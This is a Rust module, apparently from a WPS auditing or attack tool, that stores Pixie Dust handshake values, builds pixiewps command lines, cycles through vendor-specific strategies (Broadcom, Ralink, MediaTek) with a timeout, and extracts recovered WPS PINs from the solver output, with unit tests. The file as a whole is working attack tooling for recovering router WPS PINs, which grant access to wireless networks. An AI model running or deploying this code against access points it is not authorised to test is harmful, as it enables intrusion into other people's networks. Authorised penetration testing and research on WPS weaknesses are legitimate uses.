//! Pixie Dust handshake data and invocation of the external `pixiewps`
//! solver.

use std::io::Read;
use std::process::{Command, Stdio};
use std::thread;
use std::time::{Duration, Instant};

use colored::Colorize;

use crate::{Error, Result};

pub const WPS_KEY_VERSION_1: u8 = 0x10;
pub const WPS_KEY_VERSION_2: u8 = 0x20;

const SOLVER_BINARY: &str = "pixiewps";
const SOLVER_TIMEOUT: Duration = Duration::from_secs(60);
const SOLVER_POLL: Duration = Duration::from_millis(100);

/// Hex-string artifacts harvested from one WPS exchange. Empty string
/// means the field was not observed.
#[derive(Debug, Clone)]
pub struct PixieData {
    pub pke: String,
    pub pkr: String,
    pub e_hash1: String,
    pub e_hash2: String,
    pub authkey: String,
    pub e_nonce: String,
    pub r_nonce: String,
    pub e_bssid: String,
    pub e_snonce: String,
    pub r_snonce: String,
    pub e_manufacturer: String,
    pub e_model: String,
    pub e_version: String,
    pub key_version: u8,
}

impl Default for PixieData {
    fn default() -> Self {
        Self {
            pke: String::new(),
            pkr: String::new(),
            e_hash1: String::new(),
            e_hash2: String::new(),
            authkey: String::new(),
            e_nonce: String::new(),
            r_nonce: String::new(),
            e_bssid: String::new(),
            e_snonce: String::new(),
            r_snonce: String::new(),
            e_manufacturer: String::new(),
            e_model: String::new(),
            e_version: String::new(),
            key_version: WPS_KEY_VERSION_1,
        }
    }
}

impl PixieData {
    pub fn new() -> Self {
        Self::default()
    }

    pub fn clear(&mut self) {
        *self = Self::default();
    }

    /// Enough material for the basic Pixie Dust attack.
    pub fn got_basic(&self) -> bool {
        !self.pke.is_empty()
            && !self.pkr.is_empty()
            && !self.e_nonce.is_empty()
            && !self.authkey.is_empty()
            && !self.e_hash1.is_empty()
            && !self.e_hash2.is_empty()
    }

    /// Additionally holds the registrar nonce and AP address needed by the
    /// newer recovery algorithms.
    pub fn got_extended(&self) -> bool {
        self.got_basic() && !self.r_nonce.is_empty() && !self.e_bssid.is_empty()
    }

    /// Argument list for one solver invocation.
    pub fn solver_args(&self, full_range: bool, advanced: bool) -> Vec<String> {
        let mut args = vec![
            "--pke".to_string(),
            self.pke.clone(),
            "--pkr".to_string(),
            self.pkr.clone(),
            "--e-hash1".to_string(),
            self.e_hash1.clone(),
            "--e-hash2".to_string(),
            self.e_hash2.clone(),
            "--authkey".to_string(),
            self.authkey.clone(),
            "--e-nonce".to_string(),
            self.e_nonce.clone(),
        ];
        if advanced && self.got_extended() {
            args.push("--r-nonce".to_string());
            args.push(self.r_nonce.clone());
            args.push("--bssid".to_string());
            args.push(self.e_bssid.clone());
        }
        if !self.e_snonce.is_empty() {
            args.push("--e-snonce".to_string());
            args.push(self.e_snonce.clone());
        }
        if !self.r_snonce.is_empty() {
            args.push("--r-snonce".to_string());
            args.push(self.r_snonce.clone());
        }
        if self.key_version != WPS_KEY_VERSION_1 {
            args.push("--wps-version".to_string());
            args.push(self.key_version.to_string());
        }
        if !self.e_manufacturer.is_empty() {
            args.push("--vendor".to_string());
            args.push(self.e_manufacturer.clone());
        }
        if full_range {
            args.push("--force".to_string());
        }
        args.extend(
            ["--dh-small", "--mode", "3", "--verbosity", "3"]
                .iter()
                .map(|s| s.to_string()),
        );
        args
    }

    /// The full invocation line, for display and logging.
    pub fn solver_command(&self, full_range: bool, advanced: bool) -> String {
        let mut line = SOLVER_BINARY.to_string();
        for arg in self.solver_args(full_range, advanced) {
            line.push(' ');
            line.push_str(&arg);
        }
        line
    }
}

struct Strategy {
    name: &'static str,
    advanced: bool,
    ecos_ver: Option<&'static str>,
}

// Ordered by likelihood of success against common chipsets.
const STRATEGIES: &[Strategy] = &[
    Strategy { name: "Default", advanced: true, ecos_ver: None },
    Strategy { name: "Legacy", advanced: false, ecos_ver: None },
    Strategy { name: "Broadcom", advanced: true, ecos_ver: Some("2") },
    Strategy { name: "Ralink", advanced: true, ecos_ver: Some("1") },
    Strategy { name: "MediaTek", advanced: true, ecos_ver: Some("3") },
];

/// Run the external solver, trying each strategy until one recovers a PIN.
/// `Ok(None)` means every strategy was exhausted.
pub fn run_solver(data: &PixieData, show_cmd: bool, full_range: bool) -> Result<Option<String>> {
    println!("[*] Running Pixiewps…");
    for strategy in STRATEGIES {
        let mut args = data.solver_args(full_range, strategy.advanced);
        if let Some(ver) = strategy.ecos_ver {
            args.push("--ecos-ver".to_string());
            args.push(ver.to_string());
        }
        if show_cmd {
            println!("[*] Trying {} strategy:", strategy.name);
            println!("{} {}", SOLVER_BINARY, args.join(" "));
        }
        println!("[*] Attempting {} Pixie Dust attack…", strategy.name);

        match run_with_timeout(&args)? {
            SolverRun::Pin(pin) => {
                println!("{}", format!("[+] {} strategy successful!", strategy.name).green());
                return Ok(Some(pin));
            }
            SolverRun::TimedOut => {
                println!("{}", format!("[-] {} strategy timed out", strategy.name).red());
            }
            SolverRun::NoPin => {}
        }
    }
    println!("{}", "[-] All Pixie Dust strategies failed".red());
    Ok(None)
}

enum SolverRun {
    Pin(String),
    NoPin,
    TimedOut,
}

/// One solver run, bounded by the wall-clock cap.
fn run_with_timeout(args: &[String]) -> Result<SolverRun> {
    let mut child = Command::new(SOLVER_BINARY)
        .args(args)
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .map_err(|source| Error::Solver {
            reason: format!("cannot run {SOLVER_BINARY}: {source}"),
        })?;

    let started = Instant::now();
    let status = loop {
        if let Some(status) = child.try_wait()? {
            break status;
        }
        if started.elapsed() > SOLVER_TIMEOUT {
            let _ = child.kill();
            let _ = child.wait();
            return Ok(SolverRun::TimedOut);
        }
        thread::sleep(SOLVER_POLL);
    };

    if !status.success() {
        return Ok(SolverRun::NoPin);
    }
    let mut stdout = String::new();
    if let Some(mut pipe) = child.stdout.take() {
        pipe.read_to_string(&mut stdout)?;
    }
    println!("{stdout}");
    Ok(match parse_solver_output(&stdout) {
        Some(pin) => SolverRun::Pin(pin),
        None => SolverRun::NoPin,
    })
}

/// Extract the recovered PIN from solver stdout. An `<empty>` PIN is
/// reported as the literal two-character marker `''`.
pub fn parse_solver_output(stdout: &str) -> Option<String> {
    for line in stdout.lines() {
        if line.contains("[+]") && line.contains("WPS pin") {
            let pin = line.rsplit(':').next().unwrap_or_default().trim();
            if pin == "<empty>" {
                return Some("''".to_string());
            }
            return Some(pin.to_string());
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    fn filled() -> PixieData {
        PixieData {
            pke: "AB".repeat(192),
            pkr: "CD".repeat(192),
            e_hash1: "11".repeat(32),
            e_hash2: "22".repeat(32),
            authkey: "33".repeat(32),
            e_nonce: "44".repeat(16),
            ..PixieData::default()
        }
    }

    #[test]
    fn basic_needs_all_six_fields() {
        let mut data = filled();
        assert!(data.got_basic());
        assert!(!data.got_extended());
        data.authkey.clear();
        assert!(!data.got_basic());
    }

    #[test]
    fn extended_needs_registrar_nonce_and_bssid() {
        let mut data = filled();
        data.r_nonce = "55".repeat(16);
        assert!(!data.got_extended());
        data.e_bssid = "00:11:22:33:44:55".to_string();
        assert!(data.got_extended());
    }

    #[test]
    fn command_always_carries_the_fixed_tail() {
        let data = filled();
        let cmd = data.solver_command(false, true);
        assert!(cmd.starts_with("pixiewps --pke"));
        assert!(cmd.ends_with("--dh-small --mode 3 --verbosity 3"));
        assert!(!cmd.contains("--r-nonce"));
        assert!(!cmd.contains("--wps-version"));
    }

    #[test]
    fn command_extends_for_advanced_data() {
        let mut data = filled();
        data.r_nonce = "55".repeat(16);
        data.e_bssid = "00:11:22:33:44:55".to_string();
        data.key_version = WPS_KEY_VERSION_2;
        data.e_manufacturer = "Broadcom".to_string();
        let cmd = data.solver_command(true, true);
        assert!(cmd.contains("--r-nonce"));
        assert!(cmd.contains("--bssid 00:11:22:33:44:55"));
        assert!(cmd.contains("--wps-version 32"));
        assert!(cmd.contains("--vendor Broadcom"));
        assert!(cmd.contains("--force"));
        // Legacy invocations leave the extended flags out.
        assert!(!data.solver_command(false, false).contains("--r-nonce"));
    }

    #[test]
    fn snonce_fields_are_optional_flags() {
        let mut data = filled();
        data.e_snonce = "66".repeat(16);
        let cmd = data.solver_command(false, true);
        assert!(cmd.contains("--e-snonce"));
        assert!(!cmd.contains("--r-snonce"));
    }

    #[test]
    fn solver_output_parsing() {
        let out = "[*] Mode: 3\n[+] WPS pin: 12345670\n";
        assert_eq!(parse_solver_output(out), Some("12345670".to_string()));
        let empty = "[+] WPS pin: <empty>\n";
        assert_eq!(parse_solver_output(empty), Some("''".to_string()));
        assert_eq!(parse_solver_output("[-] WPS pin not found\n"), None);
    }
}
